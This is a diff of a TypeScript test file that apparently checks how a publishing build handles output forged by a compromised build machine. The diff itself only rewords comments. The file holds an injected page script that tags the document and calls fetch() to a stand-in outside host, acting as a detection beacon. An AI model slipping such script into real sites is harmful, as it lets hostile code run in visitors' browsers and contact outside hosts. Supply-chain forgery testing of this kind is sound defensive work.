@@ -15,19 +15,19 @@ import { folderStore } from '../../stores/folder.ts';
 import { collection, features } from './build.fixtures/catalogue.ts';
 
 /*
- * One of two machines that build a run is no longer its owner's: its part is forged by hand, in every way that is known, and handed over beside
- * an honest one. The command publishes them; the site is made of what came of it, and looked at.
+ * One of two machines that build a run is no longer its owner's: its part is forged by hand, in every way that is known, and handed over
+ * beside an honest one. The command publishes them; the site is made of what came of it, and looked at.
  * Longer than 250 lines: each forgery is a row.
  */
 
 const root = join(import.meta.dirname, '..', '..', '..');
 const run = 'nuit';
-/** What runs of it would leave a mark, and call out. */
+/** Script that leaves a mark and calls out wherever it runs. */
 const script = `document.documentElement.id='pris';fetch('https://ailleurs.exemple.fr/pris')`;
 const honest = ['mairie/arbres', 'mairie/bancs'];
 /** Published before, from the same manifest that the forged part was given. */
 const published = 'ddt-51/publie';
-/** What the other machine builds, and all that is forged is made of. */
+/** Data set that the other machine builds, and the model of every forgery. */
 const model = 'ddt-51/modele';
 /** More than any machine was ever given. */
 const many = 100_000;
